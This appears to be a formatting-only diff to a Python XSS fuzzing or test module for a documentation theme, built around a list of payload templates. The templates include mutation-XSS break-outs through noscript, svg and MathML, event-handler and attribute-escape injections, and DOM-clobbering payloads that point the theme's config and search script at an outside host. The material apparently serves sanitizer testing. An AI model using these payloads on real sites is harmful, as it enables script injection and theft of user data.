@@ -50,11 +50,11 @@ TAGS = (
     "<!--><img src=x onerror={js}>-->",
     "<![CDATA[><script>{js}</script>]]>",
     "<?xml ?><script>{js}</script>",
-    "<noscript><p title=\"</noscript><img src=x onerror={js}>\">",
+    '<noscript><p title="</noscript><img src=x onerror={js}>">',
     "<template><script>{js}</script></template>",
-    "<xmp><p title=\"</xmp><img src=x onerror={js}>\">",
-    "<iframe><p title=\"</iframe><img src=x onerror={js}>\">",
-    "<noembed><p title=\"</noembed><img src=x onerror={js}>\">",
+    '<xmp><p title="</xmp><img src=x onerror={js}>">',
+    '<iframe><p title="</iframe><img src=x onerror={js}>">',
+    '<noembed><p title="</noembed><img src=x onerror={js}>">',
     # event handlers
     "<img src=x onerror={js}>",
     '<img src=x onerror="{js}">',
@@ -157,22 +157,22 @@ TAGS = (
     "<svg><foreignObject><iframe srcdoc='<script>parent.{js}</script>'></iframe></foreignObject></svg>",
     "<svg><style><img src=x onerror={js}></style></svg>",
     "<svg><desc><![CDATA[</desc><script>{js}</script>]]></desc></svg>",
-    "<svg></p><style><a id=\"</style><img src=x onerror={js}>\">",
-    "<svg><title><style><img title=\"</style><img src=x onerror={js}>\">",
+    '<svg></p><style><a id="</style><img src=x onerror={js}>">',
+    '<svg><title><style><img title="</style><img src=x onerror={js}>">',
     "<svg><image href=//{host}/{n}.png /></svg>",
     "<svg><feImage href=//{host}/{n}.png /></svg>",
     # MathML
     '<math href="javascript:{js}">x</math>',
     '<math><maction actiontype="statusline#http://x" xlink:href="javascript:{js}">x</maction></math>',
     '<math><annotation-xml encoding="text/html"><img src=x onerror={js}></annotation-xml></math>',
-    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={js}&gt;\">",
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={js}&gt;">',
     "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
-    "<math><mi//xlink:href=\"data:x,<script>{js}</script>\">",
+    '<math><mi//xlink:href="data:x,<script>{js}</script>">',
     # what the theme's own scripts look for
     '<p id=__config>{{"base":"//{host}/","features":["navigation.instant"],"search":"//{host}/{n}.js"}}</p>',
     '<a id=__md_scope href="//{host}/{n}">x</a>',
     "<form name=search><input name=query></form><img name=forms>",
-    "<pre class=mermaid><code>graph TD; A[\"<img src=x onerror={js}>\"]</code></pre>",
+    '<pre class=mermaid><code>graph TD; A["<img src=x onerror={js}>"]</code></pre>',
     '<p data-md-component=search data-clipboard-text="<img src=x onerror={js}>">x</p>',
     '<p class="md-dialog md-consent" data-md-component=consent>x</p>',
     # attributes that are broken out of
@@ -183,7 +183,7 @@ TAGS = (
     "'><img src=x onerror={js}>",
     '"><script>{js}</script>',
     "`onmouseover={js}`",
-    '&quot;><img src=x onerror={js}>',
+    "&quot;><img src=x onerror={js}>",
     "&#34;&#62;<script>{js}</script>",
     '" style="background:url(//{host}/{n}.png)" x="',
     "]]></description><script>{js}</script>",
@@ -280,7 +280,9 @@ def _mixed_case(text: str, chance: random.Random) -> str:
 
 
 def _nested(text: str, chance: random.Random) -> str:
-    return chance.choice(("<b>{}</b>", "**{}**", "<p>{}", "x {} y", "<table><td>{}", "\\{}", "<details>{}")).format(text)
+    return chance.choice(("<b>{}</b>", "**{}**", "<p>{}", "x {} y", "<table><td>{}", "\\{}", "<details>{}")).format(
+        text
+    )
 
 
 def _slashes(text: str, chance: random.Random) -> str:
